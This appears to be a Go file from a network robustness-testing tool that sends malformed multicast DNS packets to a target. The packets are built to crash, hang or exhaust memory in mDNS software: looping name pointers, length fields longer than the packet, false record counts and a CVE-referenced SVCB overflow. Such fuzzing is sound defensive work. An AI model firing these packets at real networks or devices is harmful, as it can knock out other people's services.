//go:build linux

package hostile

import (
	"context"
	"encoding/binary"
	"math/rand/v2"
	"net"
	"net/netip"
	"slices"
)

// packets sends what is no good multicast DNS, to the group, to At, and to the port of
// multicast DNS there: records that say they are longer than the packet, names that lead
// into themselves, numbers of records that are not there, and whatever chance makes of
// an announcement. It counts "packets".
func packets(ctx context.Context, o Order, n *Tally) error {
	s, err := o.speakers()
	if err != nil {
		return err
	}
	defer s.close()
	var ports []net.Conn
	for _, port := range []uint16{o.At.Port(), 5353} {
		conn, err := net.Dial("udp", netip.AddrPortFrom(o.At.Addr(), port).String())
		if err != nil {
			return err
		}
		defer conn.Close()
		ports = append(ports, conn)
	}
	odd := OddPackets()
	good, err := announcement(o.name(), o.At)
	if err != nil {
		return err
	}
	next := o.pace(ctx)
	for i := 0; next(); i++ {
		packet := odd[i%len(odd)]
		if i%2 == 1 {
			packet = spoil(good)
		}
		if err := s.say(i, packet); err != nil {
			return err
		}
		_, _ = ports[i/2%2].Write(packet) // nobody may be there
		n.Add("packets")
	}
	return nil
}

// spoil changes some bytes of a packet, and may cut it off.
func spoil(packet []byte) []byte {
	b := slices.Clone(packet)
	for range 1 + rand.IntN(8) {
		b[rand.IntN(len(b))] = byte(rand.Int())
	}
	if rand.IntN(4) == 0 {
		b = b[:rand.IntN(len(b)+1)]
	}
	return b
}

// types of records (RFC 1035, RFC 2782, RFC 3596, RFC 4034, RFC 6891, RFC 9460).
const (
	typeA, typePTR, typeTXT, typeAAAA, typeSRV, typeOPT, typeNSEC, typeSVCB, typeHTTPS = 1, 12, 16, 28, 33, 41, 47, 64, 65
)

// OddPackets returns packets that programs are known to have crashed, hung or run out
// of memory by.
func OddPackets() [][]byte {
	service := name("_lanyap", "_tcp", "local")
	instance := name("0123456789abcdef", "_lanyap", "_tcp", "local")
	self := []byte{0xc0, 12}    // a name that is a pointer to itself
	forward := []byte{0xc0, 14} // and one to what follows it
	long := name(slices.Repeat([]string{string(make([]byte, 63))}, 4)...)
	response := func(records ...[]byte) []byte { return message(0x8400, 0, len(records), records...) }
	all := [][]byte{
		{}, {0}, make([]byte, 11), make([]byte, 12), make([]byte, 9000),
		// A parameter of a SVCB record that is longer than the packet (CVE-2026-46600).
		response(record(instance, typeSVCB, 8, []byte{0, 1, 0, 0, 1, 0xff, 0xff, 0})),
		response(record(instance, typeHTTPS, 7, []byte{0, 1, 0, 0, 1, 0xff, 0xff})),
		response(record(instance, typeHTTPS, 0xffff, []byte{0, 1, 0, 0, 1, 0xff, 0xff})),
		response(record(instance, typeSVCB, 3, []byte{0, 1, 0})),
		// Names in circles, and too long ones.
		response(record(self, typePTR, 2, self)),
		response(record(forward, typePTR, 2, forward)),
		response(record(service, typePTR, 2, []byte{0xff, 0xff})),
		response(record(long, typePTR, len(long), long)),
		message(0, 1, 0, append(self, 0, typePTR, 0, 1)),
		// More records, or fewer, than it says.
		message(0x8400, 0xffff, 0xffff),
		message(0, 0xffff, 0, question(service)),
		message(0x8400, 0, 0, record(service, typePTR, 2, []byte{0xc0, 12})),
		// Lengths that are none.
		response(record(instance, typeTXT, 0, nil)),
		response(record(instance, typeTXT, 1, []byte{0xff})),
		response(record(instance, typeTXT, 0xffff, []byte{1, 'v'})),
		response(record(instance, typeSRV, 6, []byte{0, 0, 0, 0, 0, 0})),
		response(record(instance, typeA, 3, []byte{10, 0, 0})),
		response(record(instance, typeAAAA, 17, make([]byte, 17))),
		response(record(instance, typeNSEC, 4, []byte{0, 0, 0xff, 0})),
		response(record([]byte{0}, typeOPT, 4, []byte{0, 1, 0xff, 0xff})),
		// As much as fits of what costs most to read.
		message(0x8400, 0, 600, slices.Repeat([][]byte{record(service, typePTR, 2, []byte{0xc0, 12})}, 600)...),
		message(0, 500, 0, slices.Repeat([][]byte{question(service)}, 400)...),
		response(record(instance, typeTXT, 8000, make([]byte, 8000))),
	}
	return all
}

// message is a header with these counts of questions and answers, and what follows.
func message(flags, questions, answers int, parts ...[]byte) []byte {
	b := binary.BigEndian.AppendUint16(nil, 0)
	for _, n := range []int{flags, questions, answers, 0, 0} {
		b = binary.BigEndian.AppendUint16(b, uint16(n))
	}
	return slices.Concat(append([][]byte{b}, parts...)...)
}

// record is one that says that its data has that length.
func record(name []byte, kind, length int, data []byte) []byte {
	b := append(slices.Clone(name), 0, byte(kind), 0x80, 1, 0, 0, 0, 120)
	return append(binary.BigEndian.AppendUint16(b, uint16(length)), data...)
}

func question(name []byte) []byte { return append(slices.Clone(name), 0, typePTR, 0, 1) }

func name(labels ...string) []byte {
	var b []byte
	for _, l := range labels {
		b = append(append(b, byte(len(l))), l...)
	}
	return append(b, 0)
}
